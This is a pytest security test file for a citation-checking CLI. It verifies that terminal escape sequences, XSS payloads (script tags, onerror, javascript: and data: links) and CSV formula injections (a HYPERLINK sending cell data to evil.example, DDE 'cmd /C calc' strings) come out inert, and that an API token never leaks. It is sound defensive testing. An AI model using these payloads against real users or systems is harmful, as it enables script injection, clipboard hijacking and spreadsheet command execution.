"""Security (issue 8, item 5), end to end through the real `evidence` command.

- Terminal escape sequences in reference text (clear screen, OSC 52 clipboard write, title change,
  BEL) are inert in the terminal table and in error messages: no raw ESC or BEL byte is printed.
- `<script>`, event handlers and `javascript:` links in reference text stay text in the HTML and
  Markdown reports (the Markdown is rendered to HTML to check).
- Spreadsheet formulas are neutralised in `evidence check --format csv`.
- A Crossref Plus token reaches Crossref as its header and nowhere else: not the cache (database
  and WAL bytes), the report, stdout, stderr with -v, nor the sites links point to.

Covered elsewhere, not repeated here: the link checker's address refusal through redirects and
DNS answers that change between check and connect (tests/test_links.py, "safety" section), CSV
and HTML escaping in `evidence table` (tests/test_reviews.py), unit-level escaping of each format
(tests/test_formats.py).
"""

from __future__ import annotations

import csv
import io
import json
import os
import pty
import re
import subprocess
import sys
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest

from tests.conftest import RunEvidence
from tests.simulator import CrossrefSimulator, _Handler
from tests.webserver import LocalServer

SADASIVAN = "10.1371/journal.pone.0033693"

CLEAR = "\x1b[2J\x1b[H"
OSC52 = "\x1b]52;c;ZWNobyBwd25lZA==\x07"  # write "echo pwned" to the clipboard
TITLE = "\x1b]0;owned\x1b\\"
ESCAPES = [CLEAR, OSC52, TITLE, "\x07", "\x1b[31m", "\x9b2J"]  # \x9b: the 8-bit CSI

HOSTILE_BIB = (
    "@article{sadasivan2012,\n"
    "  author = {Sadasivan, S. and Pond, B. B.},\n"
    f"  title = {{Methylphenidate{CLEAR} exposure{OSC52} and microglia{TITLE} in mice\x07}},\n"
    "  journal = {PLoS ONE}, year = {2012}, volume = {7}, number = {3}, pages = {e33693},\n"
    f"  doi = {{{SADASIVAN}}}\n"
    "}\n"
)
HOSTILE_TXT = (
    f"Smith J{CLEAR}. A made-up title{OSC52}. J Test. 2020;1:1-2. doi:10.1000/abc{TITLE}x\n"
    f"Doe A. Another title\x9b2J here. 2019. doi:10.1000/\x1b[31mred\n"
)


def _no_raw_escapes(text: str) -> None:
    for sequence in ESCAPES:
        assert sequence not in text, f"{sequence!r} reached the terminal"


@pytest.fixture
def hostile(tmp_path: Path) -> Path:
    (tmp_path / "refs.bib").write_text(HOSTILE_BIB, encoding="utf-8")
    (tmp_path / "refs.txt").write_text(HOSTILE_TXT, encoding="utf-8")
    return tmp_path


# --- terminal -----------------------------------------------------------------------------------


def test_escape_sequences_are_inert_in_the_table(run_evidence: RunEvidence,
                                                 hostile: Path) -> None:
    result = run_evidence("check", "refs.bib", "refs.txt", "--no-urls")
    assert result.returncode in (1, 4), result.stderr
    assert "\x1b" not in result.stdout and "\x07" not in result.stdout
    assert "\x9b" not in result.stdout
    assert "\x1b" not in result.stderr and "\x07" not in result.stderr
    # Shown, not dropped: the reader can see something was there.
    assert "\\x1b" in result.stdout


def test_escape_sequences_are_inert_in_the_coloured_table_on_a_terminal(
        evidence_env: dict[str, str], hostile: Path) -> None:
    """On a real terminal (a pty) the table has colours: the only escapes are its own SGR
    colour codes, never one from the references."""
    main, secondary = pty.openpty()
    env = {**evidence_env, "COLUMNS": "200", "TERM": "xterm"}
    env.pop("NO_COLOR", None)
    try:
        process = subprocess.Popen(
            [sys.executable, "-m", "evidence_cli", "check", "refs.bib", "refs.txt", "--no-urls",
             "--quiet"], cwd=hostile, env=env, stdin=subprocess.DEVNULL, stdout=secondary,
            stderr=subprocess.PIPE)
        os.close(secondary)
        chunks = []
        while True:
            try:
                chunk = os.read(main, 65536)
            except OSError:  # EIO: the child closed the terminal
                break
            if not chunk:
                break
            chunks.append(chunk)
        _, stderr = process.communicate(timeout=60)
    finally:
        os.close(main)
    out = b"".join(chunks).decode("utf-8", errors="replace")
    assert process.returncode in (1, 4), stderr
    assert "\x1b[" in out  # colours are on: this really is the terminal path
    _no_raw_escapes(out)
    assert set(re.findall(r"\x1b\[[0-9;]*[A-Za-z]", out)) <= {
        m for m in re.findall(r"\x1b\[[0-9;]*m", out)}, "a non-colour CSI sequence was printed"
    assert "\x1b]" not in out and "\x07" not in out


def test_escape_sequences_in_an_error_message_are_inert(run_evidence: RunEvidence,
                                                        tmp_path: Path) -> None:
    (tmp_path / "broken.bib").write_text(f"@article{{key{OSC52}{CLEAR}, title = {{x}}\n",
                                         encoding="utf-8")
    result = run_evidence("check", "broken.bib", "--no-urls")
    assert result.returncode == 3, result.stderr
    assert result.stderr.startswith("evidence: error: broken.bib:1: ")
    _no_raw_escapes(result.stderr)
    assert "\x1b" not in result.stderr




@pytest.mark.parametrize(
    "fmt", ["json", "sarif", "junit", "markdown", "html", "csv", "github"])
def test_no_report_format_prints_raw_escape_sequences(run_evidence: RunEvidence, hostile: Path,
                                                      fmt: str) -> None:
    """Every format can go to stdout, which is the terminal unless redirected."""
    result = run_evidence("check", "refs.txt", "--no-urls", "--offline", "--format", fmt)
    assert result.returncode == 1, result.stderr
    assert "10.1000/abc" in result.stdout
    _no_raw_escapes(result.stdout)
    assert "\x1b" not in result.stdout + result.stderr


# --- HTML and Markdown --------------------------------------------------------------------------

SCRIPT_BIB = (
    "@article{xss1,\n"
    "  author = {Sadasivan, S.},\n"
    "  title = {<script>alert(document.cookie)</script> <img src=x onerror=alert(1)>},\n"
    "  journal = {PLoS ONE}, year = {2012}, volume = {7}, pages = {e33693},\n"
    f"  doi = {{{SADASIVAN}}}\n"
    "}\n"
    "@misc{xss2,\n"
    "  title = {[click me](javascript:alert(1)) and <a href=\"javascript:alert(2)\">this</a>},\n"
    "  year = {2020},\n"
    "  url = {javascript:alert(3)}\n"
    "}\n"
    "@misc{xss3,\n"
    "  title = {Data URL <iframe src=\"data:text/html,<script>alert(4)</script>\"></iframe>},\n"
    "  year = {2021},\n"
    "  doi = {10.1000/\"><script>alert(5)</script>}\n"
    "}\n"
)


class _Elements(HTMLParser):
    """Every start tag with its attributes, and the text inside <script> elements."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.scripts: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))
        self._in_script = tag == "script"
        if self._in_script:
            self.scripts.append("")

    def handle_endtag(self, tag: str) -> None:
        if tag == "script":
            self._in_script = False

    def handle_data(self, data: str) -> None:
        if self._in_script:
            self.scripts[-1] += data


def _elements(html: str) -> _Elements:
    parser = _Elements()
    parser.feed(html)
    parser.close()
    return parser


def _assert_inert_html(html: str, own_scripts: int) -> None:
    page = _elements(html)
    names = [tag for tag, _ in page.tags]
    assert "iframe" not in names and "img" not in names
    assert names.count("script") == own_scripts
    assert not any("alert(" in script and "<" in script for script in page.scripts)
    for tag, attrs in page.tags:
        assert not [name for name in attrs if name.startswith("on")], (tag, attrs)
        for name in ("href", "src", "action", "formaction"):
            value = re.sub(r"[\x00-\x20]", "", attrs.get(name) or "").lower()
            assert not value.startswith(("javascript:", "data:", "vbscript:")), (tag, attrs)


@pytest.fixture
def script_bib(tmp_path: Path) -> Path:
    path = tmp_path / "xss.bib"
    path.write_text(SCRIPT_BIB, encoding="utf-8")
    return path


def _own_script_count(run_evidence: RunEvidence, tmp_path: Path) -> int:
    """How many <script> elements the report page has of its own (an empty report's)."""
    (tmp_path / "empty.bib").write_text("", encoding="utf-8")
    empty = run_evidence("check", "empty.bib", "--format", "html")
    assert empty.returncode == 0, empty.stderr
    return [tag for tag, _ in _elements(empty.stdout).tags].count("script")


def test_script_and_javascript_links_are_inert_in_the_html_report(
        run_evidence: RunEvidence, script_bib: Path, tmp_path: Path) -> None:
    result = run_evidence("check", script_bib.name, "--format", "html")
    assert result.returncode == 1, result.stderr
    assert "alert(document.cookie)" in result.stdout  # the text is there, as text
    _assert_inert_html(result.stdout, _own_script_count(run_evidence, tmp_path))


def test_script_and_javascript_links_are_inert_in_the_markdown_report(
        run_evidence: RunEvidence, script_bib: Path) -> None:
    from markdown_it import MarkdownIt

    result = run_evidence("check", script_bib.name, "--format", "markdown")
    assert result.returncode == 1, result.stderr
    # Rendered as GitHub would, raw HTML allowed: the text is there, and nothing active.
    rendered = MarkdownIt("commonmark", {"html": True}).enable("table").render(result.stdout)
    assert "&lt;script&gt;alert(document.cookie)&lt;/script&gt;" in rendered
    _assert_inert_html(rendered, own_scripts=0)
    assert "](javascript:" not in result.stdout


# --- CSV ----------------------------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def test_formulas_are_neutralised_in_the_check_csv(run_evidence: RunEvidence,
                                                   tmp_path: Path) -> None:
    entries = []
    for index, formula in enumerate(FORMULAS):
        title = formula.replace("{", "(").replace("}", ")")
        entries.append(
            f"@article{{f{index},\n  author = {{Sadasivan, S.}},\n  title = {{{title}}},\n"
            f"  journal = {{{title}}}, year = {{2012}}, volume = {{7}}, pages = {{e33693}},\n"
            f"  doi = {{{SADASIVAN}}}\n}}\n")
    (tmp_path / "formulas.bib").write_text("".join(entries), encoding="utf-8")
    (tmp_path / "=cmd.txt").write_text("doi:10.1000/abc\n", encoding="utf-8")
    result = run_evidence("check", "formulas.bib", "=cmd.txt", "--no-urls", "--format", "csv")
    assert result.returncode == 1, result.stderr
    rows = list(csv.reader(io.StringIO(result.stdout, newline="")))
    header, body = rows[0], rows[1:]
    assert body and all(len(row) == len(header) for row in body)
    cited = [row[header.index("cited")] for row in body]
    assert any("HYPERLINK" in cell for cell in cited)  # the hostile titles are in the file
    for row in body:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (cell, row)
    assert any(row[header.index("path")] == "'=cmd.txt" for row in body)


# --- secrets ------------------------------------------------------------------------------------

TOKEN = "secret-token-123"


@pytest.fixture
def header_log(monkeypatch: pytest.MonkeyPatch) -> Iterator[list[dict[str, str]]]:
    """The headers of every request the simulator receives (its own log keeps only the
    User-Agent): a thin wrapper around its handler."""
    seen: list[dict[str, str]] = []
    original = _Handler.do_GET

    def do_get(self: Any) -> None:
        seen.append({k.lower(): v for k, v in self.headers.items()})
        original(self)

    monkeypatch.setattr(_Handler, "do_GET", do_get)
    yield seen


def test_crossref_plus_token_goes_to_crossref_only(
        run_evidence: RunEvidence, evidence_env: dict[str, str], crossref_sim: CrossrefSimulator,
        header_log: list[dict[str, str]], tmp_path: Path) -> None:
    with LocalServer() as site:
        (tmp_path / "refs.bib").write_text(
            "@article{s,\n  author = {Sadasivan, S.},\n  title = {Methylphenidate exposure "
            "induces dopamine neuron loss},\n  journal = {PLoS ONE}, year = {2012},\n"
            f"  doi = {{{SADASIVAN}}},\n  url = {{{site.url('/ok')}}}\n}}\n"
            "@article{u,\n  title = {A study nobody registered, found by search},\n"
            f"  year = {{2020}},\n  url = {{{site.url('/redirect-temp')}}}\n}}\n",
            encoding="utf-8")
        env = {**evidence_env, "EVIDENCE_CROSSREF_PLUS_TOKEN": TOKEN}
        result = run_evidence("check", "refs.bib", "--allow-private", "-v", "--output",
                              "report.json", env=env)
        links = list(site.log)
    assert result.returncode in (0, 1, 4), result.stderr
    # The simulator speaks plain http: since issue 14 the token goes only over https (to a host
    # the user chose; tests/test_hardening2.py checks it does go there)...
    assert header_log and not any("crossref-plus-api-token" in h for h in header_log)
    # ...and the sites the references link to were asked, without it.
    assert links, "the links were not checked: the test would prove nothing"
    for request in links:
        assert TOKEN not in json.dumps(request.headers)
        assert "crossref-plus-api-token" not in dict(request.headers)
    # Nowhere written or printed.
    cache_dir = Path(evidence_env["EVIDENCE_CACHE_DIR"])
    written = [p for p in cache_dir.iterdir() if p.is_file()]
    assert written, "nothing was cached: the test would prove nothing"
    for path in [*written, tmp_path / "report.json"]:
        assert TOKEN.encode() not in path.read_bytes(), path
    assert TOKEN not in result.stdout + result.stderr
    assert "Crossref:" in result.stderr  # -v printed its request figures
